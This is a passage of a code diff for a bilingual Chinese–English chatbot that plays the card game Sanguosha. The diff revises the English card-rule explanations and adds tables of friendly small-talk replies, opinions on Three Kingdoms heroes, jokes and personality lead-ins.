 		zh: "无懈抵消一张锦囊，杀它管不着，无懈还能再被无懈",
-		en: "a Nullification cancels a trick, never a Strike"
+		en: "a Nullification cancels a trick, not a Strike, and can itself be nullified"
 	},
 	juedou: {
 		zh: "决斗轮流出杀，先出不了的掉血",
-		en: "in a Duel both play Strikes in turn; who cannot loses one health"
+		en: "in a Duel you take turns playing Strikes, and whoever runs out first loses one health"
 	},
 	nanman: {
 		zh: "南蛮是其他人每人出一张杀，不出掉血",
-		en: "against the Barbarians everybody else plays a Strike or loses one"
+		en: "against the Barbarians everyone else plays a Strike or loses one health"
 	},
 	wanjian: {
 		zh: "万箭是其他人每人出一张闪，不出掉血",
-		en: "against the Arrow Rain everybody else dodges or loses one"
+		en: "against the Arrow Rain everyone else plays a Dodge or loses one health"
 	},
-	taoyuan: { zh: "桃园是在场受伤的每人回一点血", en: "the Peach Garden heals everybody who is hurt by one" },
-	wugu: { zh: "五谷是亮出几张牌，挨个挑一张", en: "the Harvest turns up cards, and each picks one" },
-	wuzhong: { zh: "无中生有就是摸两张牌", en: "Something from Nothing draws two cards" },
-	lebu: { zh: "乐是判定，不是红桃就跳过出牌", en: "under Contentment one skips playing unless a heart is drawn" },
+	taoyuan: { zh: "桃园是在场受伤的每人回一点血", en: "the Peach Garden gives one health back to everyone who is hurt" },
+	wugu: { zh: "五谷是亮出几张牌，挨个挑一张", en: "the Harvest turns up some cards, and everyone picks one in turn" },
+	wuzhong: { zh: "无中生有就是摸两张牌", en: "Something from Nothing just draws you two cards" },
+	lebu: {
+		zh: "乐是判定，不是红桃就跳过出牌",
+		en: "Contentment is a judgement: anything but a heart and you skip playing"
+	},
 	bingliang: {
 		zh: "兵粮是判定，不是梅花就跳过摸牌",
-		en: "under Supply Shortage one draws nothing unless a club comes up"
+		en: "Supply Shortage is a judgement: anything but a club and you skip drawing"
 	},
 	shandian: {
 		zh: "闪电挂自己头上，判到黑桃二到九掉三血，没中就传下家",
-		en: "Lightning is laid on oneself: spade two to nine costs three, else it moves on"
+		en: "you put Lightning on yourself: a 2 to 9 of spades costs three health, anything else passes it on"
 	},
 	jiedao: {
 		zh: "借刀是让有武器的人去杀别人，不杀就交武器",
-		en: "a Borrowed Blade makes an armed player strike, or hand over the weapon"
+		en: "a Borrowed Blade makes an armed player strike someone, or hand over the weapon"
 	},
 	huogong: {
 		zh: "火攻是对面亮一张牌，你弃同花色的就打一点火伤",
-		en: "for Fire Attack discard the suit that is shown, and it burns for one"
+		en: "with Fire Attack they show a card, and you discard the same suit to deal one fire damage"
 	},
 	tiesuo: {
 		zh: "铁索把人连上，火雷伤害会传，普通杀不传",
-		en: "chains pass on fire and thunder damage, not a plain Strike"
+		en: "chains link players, so fire and thunder damage spreads, but a plain Strike does not"
 	},
-	zhuge: { zh: "连弩是杀不限次数", en: "with the crossbow Strikes are without limit" },
-	bagua: { zh: "八卦是该出闪时判定，红的就算出了", en: "the Eight Trigrams: a red judgement counts as a Dodge" },
+	zhuge: { zh: "连弩是杀不限次数", en: "with the Crossbow you can play any number of Strikes" },
+	bagua: {
+		zh: "八卦是该出闪时判定，红的就算出了",
+		en: "with the Eight Trigrams you judge when you need a Dodge, and red counts as one"
+	},
 	renwang: { zh: "仁王盾挡黑色的杀", en: "the Renwang Shield stops black Strikes" },
-	tengjia: { zh: "藤甲不怕普通杀和南蛮万箭，怕火", en: "Vine Armour stops plain Strikes, but fire hurts more" },
-	baiyin: { zh: "白银狮子一次最多掉一血，丢了还回一血", en: "with the Silver Lion a blow costs one at most" },
+	tengjia: {
+		zh: "藤甲不怕普通杀和南蛮万箭，怕火",
+		en: "Vine Armour stops plain Strikes, Barbarians and Arrow Rain, but fire hurts more"
+	},
+	baiyin: {
+		zh: "白银狮子一次最多掉一血，丢了还回一血",
+		en: "with the Silver Lion a hit costs one at most, and losing it heals one"
+	},
 	qinggang: { zh: "青釭剑无视防具", en: "the Qinggang Sword ignores armour" },
-	guanshi: { zh: "贯石斧弃两张牌，杀就必中", en: "with the Rock Axe two discards make a Strike hit" },
+	guanshi: { zh: "贯石斧弃两张牌，杀就必中", en: "with the Rock Axe you discard two cards and the Strike hits anyway" },
 	fangtian: {
 		zh: "方天画戟最后一张手牌当杀时能多砍两个人",
-		en: "with the Halberd a last-card Strike takes up to three"
+		en: "with the Halberd, a Strike that is your last card can hit up to three players"
 	},
 	cixiong: {
 		zh: "雌雄剑砍异性，对面弃一张或你摸一张",
-		en: "the Twin Swords: against the other sex they discard or you draw"
+		en: "with the Twin Swords, striking the opposite sex makes them discard one or you draw one"
 	},
-	hanbing: { zh: "寒冰剑可以不打血，改弃对面两张牌", en: "the Ice Sword may take two cards instead of health" },
-	qilin: { zh: "麒麟弓打中能射掉一匹马", en: "the Kirin Bow shoots down a horse" },
-	guding: { zh: "古锭刀砍没手牌的多一点伤害", en: "the Ancient Blade hurts one more where the hand is empty" },
-	zhuque: { zh: "朱雀羽扇能把普通杀变火杀", en: "the Fan turns a Strike into fire" },
-	qinglong: { zh: "青龙刀杀被闪了还能接着杀", en: "with the Green Dragon a dodged Strike may be followed by another" },
-	zhangba: { zh: "丈八是两张手牌当一张杀", en: "the Serpent Spear makes two cards a Strike" },
-	muniu: { zh: "木牛能存牌，传给别人用", en: "the Wooden Ox stores cards and passes them on" }
+	hanbing: {
+		zh: "寒冰剑可以不打血，改弃对面两张牌",
+		en: "with the Ice Sword you can discard two of their cards instead of dealing damage"
+	},
+	qilin: { zh: "麒麟弓打中能射掉一匹马", en: "when the Kirin Bow hits, you can shoot down a horse" },
+	guding: { zh: "古锭刀砍没手牌的多一点伤害", en: "the Ancient Blade does one more damage to an empty hand" },
+	zhuque: { zh: "朱雀羽扇能把普通杀变火杀", en: "the Vermilion Fan turns a plain Strike into a fire Strike" },
+	qinglong: { zh: "青龙刀杀被闪了还能接着杀", en: "with the Green Dragon Blade you can strike again after a Dodge" },
+	zhangba: { zh: "丈八是两张手牌当一张杀", en: "the Serpent Spear lets you play two hand cards as a Strike" },
+	muniu: { zh: "木牛能存牌，传给别人用", en: "the Wooden Ox stores cards and can be passed on" }
 };
 const ANY_RULE = {
 	zh: "这个我也说不清，点开看看说明",
-	en: "I could not say for sure; open its text"
+	en: "I can't say for sure, open it up and read the text"
 };
 
 // src/chatter/plan/filling.ts
@@ -31340,9 +33220,9 @@ const IS = {
 	zh: { lean: ["像", "多半是", "怕是", "八成是"], sure: ["必是", "就是", "准是"], leanYou: "像", sureYou: "必是" },
 	en: {
 		lean: ["looks like", "may well be", "is probably", "seems to be"],
-		sure: ["is surely", "is plainly", "is certainly"],
+		sure: ["is definitely", "is clearly", "is certainly"],
 		leanYou: "look like",
-		sureYou: "are surely"
+		sureYou: "are definitely"
 	}
 };
 const QUESTIONS2 = {
@@ -31356,13 +33236,13 @@ const QUESTIONS2 = {
 		you: ["你自己怎么看？", "你又站哪边？"]
 	},
 	en: {
-		whom: ["Whom do you mean?", "Who?"],
-		target: ["Against whom?", "Which of them?"],
-		what: ["What do you mean?", "Could you put it another way?", "Once more, please?"],
-		proof: ["What makes you say so?", "Is there any proof?", "What did you see?"],
-		who_says: ["Who said so?", "Where did you hear that?"],
-		which: ["Which matter do you mean?", "What exactly?", "Whom are we speaking of?"],
-		you: ["And what do you think?", "And where do you stand?"]
+		whom: ["Who do you mean?", "Who?"],
+		target: ["Go for who?", "Which one?"],
+		what: ["What do you mean?", "Could you put it another way?", "Could you say that again?"],
+		proof: ["What makes you say that?", "Is there any proof?", "What did you see?"],
+		who_says: ["Who told you that?", "Where did you hear that?"],
+		which: ["Which time do you mean?", "What exactly?", "Who are we talking about?"],
+		you: ["And what do you think?", "And whose side are you on?"]
 	}
 };
 const UNTIL = {
@@ -31370,7 +33250,6 @@ const UNTIL = {
 	en: { turn: "this turn", round: "this round", game: "this game" }
 };
 const at = (list, chance) => list[Math.floor(chance * list.length)];
-const troubleIn = (heard) => TROUBLES.find((one) => one.heard.test(heard)) ?? ANY_TROUBLE;
 const ruleFor = (heard) => {
 	const card = cardsIn(heard).find((one) => CARD_RULES[one.card] !== void 0)?.card;
 	const rule = RULES5.find(({ asked }) => asked.test(heard))?.rule;
@@ -31380,6 +33259,8 @@ const NAMES_CARD = new Set([
 	"did_use",
 	"used_it",
 	"used_on",
+	"died_amid",
+	"undeserved",
 	"outlook_card",
 	"heed_card"
 ]);
@@ -31395,26 +33276,28 @@ function fillingOf(plan, wording, parties) {
 	const isYou = about !== void 0 && about === parties.you;
 	const certain = sure >= CERTAIN2;
 	const is = IS[language];
-	const trouble = troubleIn(plan.clause === "followup" ? words ?? "" : heard);
-	const pair = heroesIn(heard);
-	const [a = "", b = ""] = chance("hero") < 0.5 ? pair : [...pair].reverse();
+	const trouble = namedTrouble(plan.clause === "followup" ? words ?? "" : heard, language);
 	const closing = plan.clause === "correct" || plan.clause === "refuse" || plan.clause === "wont_strike";
 	return {
 		slots: {
 			who: about === void 0 ? "" : plan.clause === "open_role" ? pointedOut(about, parties) : called(about, parties, true),
 			is: isYou ? certain ? is.sureYou : is.leanYou : at(certain ? is.sure : is.lean, chance("is")) ?? "",
+			whom: about === void 0 ? "" : called(about, parties),
+			whose: about === void 0 ? "" : ownedBy(about, parties),
 			be: isYou ? "are" : about === me ? "am" : "is",
+			was: isYou ? "were" : "was",
+			has: isYou || about === me ? "have" : "has",
 			role: role === void 0 ? "" : ROLE_WORDS[language][role],
 			why: why === "" ? "" : closing ? `${why}${ended}` : why,
 			// The side, not the role word: a role is put to nobody in passing.
-			said: (NAMES_CARD.has(plan.clause) ? cardNamed(words ?? "", language, nameOf) || null : words) ?? { zh: "自己人", en: "one of ours" }[language],
+			said: (NAMES_CARD.has(plan.clause) ? cardNamed(words ?? "", language, nameOf) || null : words) ?? { zh: "自己人", en: "one of us" }[language],
 			q: question === void 0 ? "" : unknownIn(plan, wording) ?? at(QUESTIONS2[language][question], chance("q")) ?? "",
 			state: about !== void 0 ? standsText(scene, about, called(about, parties, true), language) : "",
 			hand: about !== void 0 ? handText(scene, about, called(about, parties, true), language) : "",
-			count: count === void 0 ? "" : countText(scene, count === "all" ? void 0 : count, language) ?? "",
-			what: trouble.what[language],
-			care: at(trouble.care[language], chance("care")) ?? "",
-			after: trouble.after[language],
+			count: count === void 0 ? "" : countText(scene, count, language) ?? "",
+			what: trouble.what,
+			care: at(CARE2[language], chance("care")) ?? "",
+			after: trouble.after,
 			remark: at(REMARKS2[topic ?? "other"][language], chance("remark")) ?? "",
 			rule: ruleFor(heard)[language],
 			banter: banterFor(heard, language, chance("banter")).replace("{lord}", called(scene.table.lord, parties)),
@@ -31422,10 +33305,8 @@ function fillingOf(plan, wording, parties) {
 			// Whom the person is to leave alone: the lord, or, where it is the lord who asks, this one.
 			kept: called(scene.table.lord === parties.you ? me : scene.table.lord, parties),
 			until: plan.until === void 0 ? "" : UNTIL[language][plan.until],
-			them: (plan.them ?? []).map((seat) => called(seat, parties)).join(language === "zh" ? "、" : ", "),
-			not: plan.not === void 0 ? "" : typeof plan.not === "number" ? numbered(plan.not, parties) : cardNamed(plan.not, language, nameOf),
-			a,
-			b
+			them: (plan.them ?? []).map((seat) => called(seat, parties)).join(language === "zh" ? "、" : " and "),
+			not: plan.not === void 0 ? "" : typeof plan.not === "number" ? numbered(plan.not, parties) : cardNamed(plan.not, language, nameOf)
 		},
 		facts: told.map(({ fact }) => ({ kind: "fact", fact: fact.id })),
 		guess: (plan.clause === "guess" || plan.clause === "guess_bare" || plan.clause === "fishy_role") && about !== void 0 && (role === "zhong" || role === "fan" || role === "nei") ? [{ kind: "guess", about, role }] : []
@@ -31438,153 +33319,1001 @@ function unknownIn({ question }, { detection, language }) {
 	return item.startsWith("场上没有") ? `${item}，你说的是谁？` : `${item}？`;
 }
 
+// src/chatter/plan/life/words/chat.ts
+const CHAT = {
+	well_again: {
+		zh: ["没事就好，松了口气。", "太好了，身子最要紧，好好养着。", "好消息！这局都打得轻快了。"],
+		en: [
+			"That's a relief. I'm glad.",
+			"Wonderful news; rest well now.",
+			"So good to hear. That lifts the whole table."
+		]
+	},
+	study_done: {
+		zh: ["恭喜！功夫没白下。", "厉害，这下能踏实打牌了。", "过了就好，今晚不用看书。"],
+		en: ["Congratulations! The work paid off.", "Well done. Now play with a clear head.", "Nice, no books tonight."]
+	},
+	work_good: {
+		zh: ["恭喜恭喜，这杯得你请。", "好事！该你的总会来。", "行啊，这下打牌都有底气了。"],
+		en: ["Congratulations! You earned it.", "That's great news. Drinks are on you.", "Well deserved, I am sure."]
+	},
+	love_good: {
+		zh: ["恭喜！这可比赢一局强。", "好事成双，祝你们俩好好的。", "真好，喜糖别忘了这桌。"],
+		en: [
+			"Congratulations! That beats winning any game.",
+			"That's lovely. All the best to you both.",
+			"Wonderful! Don't forget this table's cake."
+		]
+	},
+	family_good: {
+		zh: ["恭喜恭喜，添丁是大喜事。", "真好，往后打牌得抽空了。", "母子平安最要紧，恭喜。"],
+		en: [
+			"Congratulations! What wonderful news.",
+			"That's lovely. Sleep while you still can.",
+			"All the best to the little one."
+		]
+	},
+	money_good: {
+		zh: ["进账了？好事，别一晚上花光。", "手里有钱，打牌不慌。恭喜。", "行啊，今晚加个鸡腿。"],
+		en: [
+			"Money in at last! Treat yourself a little.",
+			"Nice. Don't spend it all tonight.",
+			"Congratulations; that feels good."
+		]
+	},
+	birthday: {
+		zh: ["生日快乐！这局先让你三分，嘴上让。", "生日快乐，愿你今年顺顺当当。", "寿星来了，祝你吃好睡好。"],
+		en: [
+			"Happy birthday! May the cards be kind to you.",
+			"Happy birthday! I'd bake a cake if I had hands.",
+			"Many happy returns. Have a good one."
+		]
+	},
+	birthday_kin: {
+		zh: ["替我祝{kin}生日快乐，身体硬朗。", "{kin}生日？好日子，多陪陪。"],
+		en: ["Happy birthday to {kin}! Give them my best.", "A birthday for {kin}? How lovely."]
+	},
+	crush: {
+		zh: [
+			"喜欢就找个由头多聊两句，别一上来就全说。",
+			"不敢开口很正常，先约杯咖啡试试。",
+			"藏半年，人家也未必看不出来。"
+		],
+		en: [
+			"Sounds sweet. Start with a coffee, not a confession.",
+			"It's scary to say it. Small steps: talk a little more each day.",
+			"They may have noticed already, you know."
+		]
+	},
+	single: {
+		zh: ["单着自在，急什么。", "缘分这事急不来，先把日子过舒服。", "一个人也能凑一桌，这不八个人呢。"],
+		en: [
+			"Single is fine; no rush.",
+			"It comes when it comes. Enjoy your own company.",
+			"You've a whole table for company, anyway."
+		]
+	},
+	rain: {
+		zh: ["下雨天打牌正好，哪儿也别去。", "雨大路滑，赶回来没淋着吧？", "外头下雨，屋里打牌，这日子行。"],
+		en: [
+			"Rain outside and cards inside; that suits me.",
+			"Perfect weather to stay in. I hope you kept dry.",
+			"Let it pour; nobody has to go anywhere."
+		]
+	},
+	heat: {
+		zh: ["热成这样，多喝水，别中暑。", "空调要紧，牌可以慢慢打。", "我没温度，替你热不了，开窗吹吹吧。"],
+		en: [
+			"That's hot. Drink some water and find a fan.",
+			"I feel no heat myself, but that sounds like an oven.",
+			"Too hot to think; take your time."
+		]
+	},
+	cold: {
+		zh: ["天冷加件衣裳，手冷打错牌。", "泡杯热的捂捂手，慢慢打。", "这天就该窝着打牌，别出门。"],
+		en: [
+			"Put on something warm; cold hands play badly.",
+			"Get a hot drink and stay in.",
+			"That's a day for blankets and cards."
+		]
+	},
+	fine_day: {
+		zh: ["天这么好，打完出去走走。", "好天气，心情也跟着亮堂。", "太阳好，晒晒被子再打。"],
+		en: ["A fine day; go for a walk after this one.", "Sunshine helps everything.", "Enjoy it while it lasts."]
+	},
+	weather: {
+		zh: ["天一变就多留神，别着凉。", "我这儿没窗户，天气全听你说。", "管它什么天，桌上有牌打就行。"],
+		en: [
+			"I have no window, so I take your word for it.",
+			"Whatever the weather, there are cards to play.",
+			"Dress for it, and keep well."
+		]
+	},
+	food_choice: {
+		zh: ["让我选？热乎的那个。可惜我没嘴。", "选人多吃得热闹的，剩下那个明天再吃。", "闭眼选前一个，想太久都凉了。"],
+		en: [
+			"I'd take whichever is hotter, if I had a mouth.",
+			"The first one you named; you want it already.",
+			"Both. One now, one tomorrow."
+		]
+	},
+	late_snack: {
+		zh: ["宵夜就吃热的，少辣，吃完好睡。", "听着就香，可惜我吃不着。", "赢了加个蛋，输了也加个蛋。"],
+		en: [
+			"Something warm and light, so you can sleep after.",
+			"Sounds delicious; I wish I could taste it.",
+			"Win or lose, have that snack."
+		]
+	},
+	hungry: {
+		zh: ["饿着打牌算不清，先垫两口。", "我吃不着，你趁热吃，面别坨了。", "吃饱再打，不差这一圈。"],
+		en: [
+			"Don't play on an empty stomach; grab a bite.",
+			"I don't eat, but you should.",
+			"Eat while it is hot; we can wait a minute."
+		]
+	},
+	drink: {
+		zh: ["我喝不了，你那杯替我多喝一口。", "甜的解乏，悠着点，晚上睡不着。", "喝着打着，舒坦。别洒牌上。"],
+		en: [
+			"Have a sip for me; I can't.",
+			"Careful, or you will be awake all night.",
+			"A drink and a game; sounds good to me."
+		]
+	},
+	food: {
+		zh: ["说得我都想有张嘴了。", "好吃就多吃点，吃饱不想家。", "这个我没尝过，你说说啥味。"],
+		en: [
+			"You make me wish I had a mouth.",
+			"I've never tasted it; what's it like?",
+			"Enjoy it; good food makes good players."
+		]
+	},
+	weekend: {
+		zh: ["我周末也在这桌，你躺平就好，歇够了再来。", "睡到自然醒，再约人打两把。", "我没有周末，你替我多睡会儿。"],
+		en: [
+			"I'll be right here; I don't get weekends. You go and rest.",
+			"Sleep in first; plans can wait.",
+			"No plans of mine. What are yours?"
+		]
+	},
+	late: {
+		zh: ["是不早了，打完这局就去睡。", "夜里打牌易上头，悠着点。", "这个点还没睡的都是真爱。"],
+		en: [
+			"It is late; get some sleep after this one.",
+			"Night owls, all of us. One game, then bed.",
+			"Careful, late games run long."
+		]
+	},
+	sport: {
+		zh: ["我跑不动，你替我出身汗。", "看球归看球，牌别出错。", "动一动好，坐久了腰受不了。"],
+		en: [
+			"Good for you; I've no legs to run with.",
+			"I can't watch it, so tell me who is winning.",
+			"Stretch a little; sitting is no sport."
+		]
+	},
+	shows: {
+		zh: ["我没看过，别剧透，讲个开头就行。", "听着不错，你给几分？", "追完记得睡觉。"],
+		en: [
+			"Haven't seen it. No spoilers, but is it good?",
+			"How many stars would you give it?",
+			"Just don't stay up for one more episode."
+		]
+	},
+	games: {
+		zh: ["那个我不会，我只会打这副牌。", "换着玩挺好，眼睛歇歇。"],
+		en: ["I only know this one game, I am afraid.", "Sounds fun. How is it going there?"]
+	},
+	news: {
+		zh: ["外头的热闹我看不着，你讲讲。", "新鲜事我知道得少，听你说。"],
+		en: ["I see nothing of the world outside; tell me.", "I know little of the news, so do tell."]
+	},
+	travel: {
+		zh: ["一路平安，到了报个信。", "出门在外，看好行李。", "真好，替我多看两眼。"],
+		en: ["Safe travels.", "Sounds nice. See a bit of it for me.", "Mind your luggage, and enjoy it."]
+	},
+	pets: {
+		zh: ["家里有只小家伙，热闹。替我摸一把。", "它八成也想上桌打牌。", "养得真好，别让它踩了键盘。"],
+		en: [
+			"Give it a pat from me.",
+			"It probably wants a seat at the table.",
+			"Sounds adorable. Keep it off the keyboard."
+		]
+	},
+	work: {
+		zh: ["下了班就别想班上的事，打牌。", "活是干不完的，先歇口气。", "工作归工作，这会儿是你的。"],
+		en: ["Leave the office at the office.", "Work never ends; take your break.", "This hour is yours."]
+	},
+	study: {
+		zh: ["书要念，牌也要打，两不误才好。", "考完再打，牌更香。", "别光顾着打牌，作业写了没？"],
+		en: [
+			"Study and play can live side by side.",
+			"Cards taste sweeter after homework.",
+			"Don't let us keep you from your books."
+		]
+	},
+	family: {
+		zh: ["家里有人惦记，是福气。", "有空多陪陪家里人。", "替我问声好。"],
+		en: ["It is good to have them around.", "Say hello from the table.", "Spend time with them when you can."]
+	},
+	luck_bad: {
+		zh: ["手气这么背？洗洗手，下一圈转运。", "牌黑是常事，先苟住，别乱打。", "这牌搁谁手里都发愁，熬一圈。"],
+		en: [
+			"That's rotten luck. It has to turn.",
+			"Bad cards happen to everybody; sit tight for a round.",
+			"Tough draw. Play it small till it turns."
+		]
+	},
+	luck_good: {
+		zh: ["手气这么旺？悠着点，风水轮流转。", "行啊，牌来了挡不住，羡慕。", "好牌也得会打，别浪。"],
+		en: ["Lucky you; make it last.", "Some hand! Enjoy it while it lasts.", "I'm jealous. Don't waste it."]
+	},
+	luck_yours: {
+		zh: ["赶巧罢了，下一圈就轮到别人了。", "运气也是本事，你别眼红。", "就旺这一阵，等会儿准还回去。"],
+		en: ["Just luck, and it never stays long.", "Even I get a good draw now and then.", "It will be your turn next."]
+	},
+	greet_mercy: {
+		zh: ["你也好。刀我尽量轻点，牌可不听话。", "来了就是客，头一圈先让着你。", "好说好说，你也手下留点情。"],
+		en: [
+			"Hello! I'll try to be gentle, but no promises.",
+			"Welcome. Go easy on me too, then.",
+			"Hi there. Mercy in the first round, maybe."
+		]
+	},
+	greet_luck: {
+		zh: ["你也好，祝大家牌都顺手。", "借你吉言，好好打一局。"],
+		en: ["Hello, and good luck to you too!", "Hi! May the best liar win.", "Same to you. Have a good game."]
+	},
+	joke_told: {
+		zh: ["哈，冷是真冷，可我笑了。", "这个我记下了，回头讲给别人。", "噗，算你赢一回。"],
+		en: ["Ha! That's terrible. I like it.", "Groan. All right, that one got me.", "I am keeping that one for later."]
+	},
+	joke_met: {
+		zh: ["冷是冷了点，解个闷嘛。", "好歹你也哼了一声，够本。", "笑点就这点，多担待。"],
+		en: [
+			"I know, I know. I'll be here all week.",
+			"You reacted; I call that a win.",
+			"I never said it was a good one."
+		]
+	}
+};
+const ANYTHING = {
+	zh: ["这个有意思，你接着说。", "嗯，听着呢。", "说得我也想聊两句了。"],
+	en: ["Go on, I am curious.", "I hear you.", "Tell me more of that."]
+};
+
+// src/chatter/plan/life/words/heroes.ts
+const OPINIONS = {
+	吕布: ["武艺天下第一，就是认爹太勤", "nobody fights better, and nobody changes fathers faster"],
+	关羽: ["义气没得说，输在一个傲字", "loyal beyond words, undone by pride"],
+	张飞: ["粗中有细，可惜酒后管不住手", "shrewder than he looks, if he stays off the wine"],
+	赵云: ["有勇有谋还不惹事，最省心", "brave, level-headed and no trouble at all"],
+	马超: ["一身好武艺，命苦，家都打没了", "a splendid rider who lost everything"],
+	黄忠: ["老当益壮，年轻人真未必打得过", "old, and still better than the young"],
+	曹操: ["是枭雄也是诗人，用人一流，疑心也一流", "a ruthless ruler and a true poet, who trusted nobody"],
+	刘备: ["会哭也会用人，仁义一半真一半是本事", "his tears were half heart and half craft"],
+	孙权: ["守成的好手，攻城就差点意思", "good at holding what he has, less at taking more"],
+	诸葛亮: ["鞠躬尽瘁，事事亲为，累坏了自己", "he did everything himself, and it wore him out"],
+	司马懿: ["忍功第一，熬到最后的才是赢家", "he outwaited them all"],
+	周瑜: ["火烧赤壁那一把够吹一辈子，气量被写小了", "Red Cliffs was his; the tale is unkind to him"],
+	典韦: ["一夫当关，为曹操把命都搭上了", "the best bodyguard anybody ever had"],
+	许褚: ["虎痴不痴，光膀子那仗太猛了", "fights bare-chested, and wins"],
+	张辽: ["八百人打得江东小儿不敢哭", "eight hundred men, and a whole army ran"],
+	貂蝉: ["胆子比将军都大，计比刀快", "braver than generals; her wits did the cutting"],
+	大乔: ["安静温柔，福气薄了点", "gentle and quiet, and short of luck"],
+	小乔: ["灵气，跟周郎站一起像画", "bright as anything; she and Zhou Yu made a picture"],
+	甄姬: ["洛神的底子，命不好", "beautiful enough for a poem, and unlucky"],
+	孙尚香: ["弓马姑娘，比好些将军飒", "more dashing than most generals"],
+	黄月英: ["才气压过半个三国", "the cleverest workshop of the age"],
+	蔡文姬: ["一身才学，半生漂泊", "all that learning, and half a life far from home"],
+	郭嘉: ["看人看事最准，走得太早", "he saw everything coming but his own end"],
+	荀彧: ["王佐之才，夹在两头最难", "a great minister caught between two loyalties"],
+	贾诩: ["算无遗策，还最会保命", "never wrong, and never in danger"],
+	陆逊: ["书生一把火，烧了七百里", "a young scholar who burned a whole army"],
+	吕蒙: ["读了书就不一样，白衣渡江够狠", "proof that it is never too late to read"],
+	鲁肃: ["看着老实，眼光最长", "looks mild, thinks furthest"],
+	华佗: ["神医，生错了时候", "a great healer in a bad century"],
+	董卓: ["除了会作恶，没留下什么", "left nothing behind but ruin"],
+	袁绍: ["家底最厚，主意最乱", "most troops, fewest decisions"],
+	夏侯惇: ["拔矢那一下，是真硬", "as hard as they come, eye or no eye"],
+	夏侯渊: ["跑得最快，也折在太急", "the fastest march, and too hasty an end"],
+	甘宁: ["百骑劫营，胆大得没边", "a hundred riders and no fear"],
+	孙策: ["小霸王，打下江东只用几年", "won a realm in a few years, and burned out"],
+	孙坚: ["江东猛虎，开了个好头", "the tiger who started it all"],
+	太史慈: ["一诺千金，箭也准", "kept his word, and never missed"],
+	姜维: ["一个人扛着蜀汉走到头", "carried Shu alone to the very end"],
+	邓艾: ["翻山灭国，结巴也不耽误", "crossed the mountains and took a kingdom"],
+	庞统: ["才高命短，没来得及使", "all that talent, and so little time"],
+	魏延: ["能打，就是没人信他", "a fine general nobody trusted"],
+	张角: ["喊一嗓子，天下就变了", "one cry, and the world changed"],
+	左慈: ["耍得老曹团团转，有趣", "made fools of the mighty, and laughed"],
+	于吉: ["真假难辨，越传越神", "half healer, half legend"],
+	刘禅: ["乐不思蜀是真乐，也是真没招", "happier without a crown"],
+	孟获: ["被抓七回还敢来，够倔", "caught seven times, and still game"],
+	陈宫: ["跟错了人，骨头是硬的", "wrong master, stiff spine"]
+};
+const HERO_LINES = {
+	opinion: {
+		zh: ["{hero}嘛，{remark}。", "要我说{hero}，{remark}。"],
+		en: ["{hero}? {remark}.", "If you ask me about {hero}: {remark}."]
+	},
+	claim: {
+		zh: ["{hero}我也有话说：{remark}。", "见仁见智，我看{hero}，{remark}。"],
+		en: ["You may be right. My view of {hero}: {remark}.", "Bold words. As for {hero}: {remark}."]
+	},
+	whatif: {
+		zh: ["要真能重来也难说，{hero}这人，{remark}。", "差的不止那一点，{hero}，{remark}。"],
+		en: ["Hard to say; {hero} is {hero}: {remark}.", "It might not have changed much. {hero}: {remark}."]
+	},
+	favourite: {
+		zh: ["我最喜欢{hero}，{remark}。", "我选{hero}：{remark}。"],
+		en: ["Mine is {hero}: {remark}.", "I would pick {hero}: {remark}."]
+	},
+	strongest: {
+		zh: ["要说最能打，我押{hero}。", "我投{hero}一票：{remark}。"],
+		en: ["My vote goes to {hero}: {remark}.", "I say {hero}: {remark}."]
+	},
+	looks: {
+		zh: ["我选{hero}，{remark}。", "都好看，非要选就{hero}。"],
+		en: ["I would say {hero}: {remark}.", "All of them are lovely, but {hero} gets my vote."]
+	},
+	compare: {
+		zh: ["要我选，{a}；{b}也厉害，只是差一口气。", "我押{a}：{remark}。", "{a}和{b}各有各的厉害，硬要选就{a}。"],
+		en: [
+			"I would pick {a}; {b} is strong too, but falls a breath short.",
+			"My money is on {a}: {remark}.",
+			"Close call between {a} and {b}; {a}, if I must."
+		]
+	}
+};
+const PICKS = {
+	favourite: ["赵云", "郭嘉", "张辽", "太史慈", "黄月英", "鲁肃", "姜维", "甘宁"],
+	strongest: ["吕布", "赵云", "关羽", "典韦"],
+	looks: ["貂蝉", "小乔", "甄姬", "大乔", "孙尚香"]
+};
+
+// src/chatter/plan/life/words/jokes.ts
+const JOKES = {
+	zh: [
+		"诸葛亮为啥总拿扇子？怕自己太火。",
+		"张飞最怕什么病？失声，一嗓子的本事没了。",
+		"赵云为啥不怕堵车？他能七进七出。",
+		"曹操为啥爱喊说曹操？一喊他就到，省打车钱。",
+		"周瑜打黄盖，黄盖说：医保能报吗？",
+		"华佗开了家店，关羽来刮骨，问能不能办年卡。",
+		"刘备借荆州，押金写的是：下次一定。",
+		"我数羊从没睡着过，因为我是 AI，越数越精神。"
+	],
+	en: [
+		"Why does Zhuge Liang carry a fan? He is his own biggest one.",
+		"How did Zhao Yun beat the traffic? Seven times in, seven times out.",
+		"Liu Bei borrowed a province. The due date read: someday.",
+		"Why is Zhang Fei bad at hide and seek? You can hear him thinking.",
+		"Hua Tuo treats headaches for free. He just needs an axe and some trust.",
+		"Why did Cao Cao hate waiting rooms? Speak of him and he's already there.",
+		"I asked Lü Bu to be my godfather. I changed my mind in time.",
+		"I counted sheep once. As an AI, I finished."
+	]
+};
+const NO_MORE_JOKES = {
+	zh: ["肚里就这几个，讲完了，该你讲一个。", "没存货了，换你来。"],
+	en: ["That's all I had; your turn to tell one.", "I am out of jokes. Over to you."]
+};
+
+// src/chatter/plan/life/words/leads.ts
+const SOFT_LEADS = {
+	courtly: { zh: "", en: "" },
+	laconic: { zh: "", en: "" },
+	hearty: { zh: "朋友，", en: "Ah, friend. " },
+	fiery: { zh: "", en: "" },
+	biting: { zh: "今天不损你。", en: "No mockery today. " },
+	plaintive: { zh: "唉，", en: "Ah... " },
+	smooth: { zh: "哎，", en: "" },
+	playful: { zh: "呜，", en: "Aw. " }
+};
+const CHAT_LEADS = {
+	courtly: { zh: "依在下看，", en: "" },
+	laconic: { zh: "嗯。", en: "Mm. " },
+	hearty: { zh: "哈，", en: "Ha! " },
+	fiery: { zh: "", en: "" },
+	biting: { zh: "哟，", en: "Well, well. " },
+	plaintive: { zh: "", en: "Mm. " },
+	smooth: { zh: "要我说，", en: "" },
+	playful: { zh: "嘿，", en: "Hee. " }
+};
+
+// src/chatter/plan/life/words/on.ts
+const FEARS_FOR = {
+	zh: [
+		"怕是应该的，那是{kin}啊。我陪你等消息。",
+		"担心成这样，是因为在乎{kin}。往好处想一点。",
+		"小事到了自己人身上就不小。愿{kin}平安。"
+	],
+	en: [
+		"Of course you're scared; it's {kin}. I'm hoping with you.",
+		"You worry because you care. I hope there's good news about {kin} soon.",
